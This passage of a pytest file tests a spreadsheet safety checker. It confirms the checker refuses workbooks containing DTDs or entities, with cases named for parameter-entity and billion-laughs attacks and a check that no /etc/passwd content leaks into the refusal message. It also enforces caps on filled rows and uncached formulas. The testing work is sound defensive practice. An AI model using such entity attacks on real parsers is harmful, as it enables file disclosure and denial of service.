        "parameter-entity-styles",
        "billion-laughs-workbook",
    ],
)
def test_dtd_and_entities_are_refused(tmp_path, part, data):
    path = replace_member(xlsxwriter_workbook(tmp_path / "kalender.xlsx"), part, data)
    finding = refused(path)
    assert finding.message == DTD_MESSAGE
    assert "root:" not in finding.text()  # nothing of /etc/passwd leaks into the message


# --- sizes of sheets ---------------------------------------------------------------------------


def rows_workbook(path: Path, filled: int) -> Path:
    workbook = xlsxwriter.Workbook(path)
    calendar = workbook.add_worksheet("Kalender")
    for row in range(filled):
        calendar.write_number(row, 0, row)
        calendar.write_blank(row + filled + 5, 1, None, workbook.add_format({"bold": True}))
    workbook.close()
    return path


def test_sheet_with_more_filled_rows_than_the_cap_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_FILLED_ROWS", 100)
    finding = refused(rows_workbook(tmp_path / "lang.xlsx", 101))
    assert finding.message == "heeft meer dan 100 gevulde rijen."
    assert finding.location.sheet == "Kalender"
    assert finding.fix.startswith("Verwijder lege of overbodige rijen")


def test_sheet_with_exactly_the_cap_passes_and_formatted_rows_do_not_count(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_FILLED_ROWS", 100)
    # 200 row elements: the quick count sends the sheet to the full scan, which counts 100.
    info = inspect_xlsx(rows_workbook(tmp_path / "lang.xlsx", 100), SHOWN)
    assert info.sheet_names == ("Kalender",)


@pytest.mark.parametrize("chunk", [1, 2, 3, 4, 5, 7, 64])
def test_tags_split_over_chunks_are_still_found(tmp_path, monkeypatch, chunk):
    # The quick look before the full scan works chunk by chunk: a formula or row element cut in
    # two must count all the same. 3 filled rows, prefixed (closing tags match too: an upper
    # bound) and plain; B2 is an uncached formula.
    monkeypatch.setattr(safety, "CHUNK_SIZE", chunk)
    rows = (
        '<row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="2"><c r="A2"><v>2</v></c><c r="B2"><f>A2*2</f></c></row>'
        '<row r="3"><c r="A3"><v>3</v></c></row>'
    )
    path = write_zip(tmp_path / "knip.xlsx", workbook_parts({"K": sheet_xml(rows)}))

    assert inspect_xlsx(path, SHOWN).formulas_without_value == {"K": ("B2",)}
    monkeypatch.setattr(safety, "MAX_FILLED_ROWS", 2)
    assert refused(path).message == "heeft meer dan 2 gevulde rijen."


@pytest.mark.parametrize("chunk", [1, 3, 4, 5, 1 << 20])
def test_rows_without_formulas_are_counted_across_chunks(tmp_path, monkeypatch, chunk):
    # No formula: only the row count decides whether the full scan runs. Three rows with a cap
    # of two must reach it (and be refused) however the part is cut.
    monkeypatch.setattr(safety, "CHUNK_SIZE", chunk)
    monkeypatch.setattr(safety, "MAX_FILLED_ROWS", 2)
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in (1, 2, 3))
    path = write_zip(tmp_path / "rijen.xlsx", workbook_parts({"K": sheet_xml(rows)}))

    assert refused(path).message == "heeft meer dan 2 gevulde rijen."


def test_too_many_uncached_formulas_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_FORMULAS_WITHOUT_VALUE", 3)
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=1+1"
    workbook.active["A2"] = "=1+2"
    second = workbook.create_sheet("Tweede")
    second["A1"] = "=1+3"
    second["A2"] = "=1+4"  # the fourth, across sheets
    workbook.save(tmp_path / "formules.xlsx")
    finding = refused(tmp_path / "formules.xlsx")
    assert finding.message == "bevat meer dan 3 formules zonder berekende waarde."
    assert "herberekenen" in finding.fix
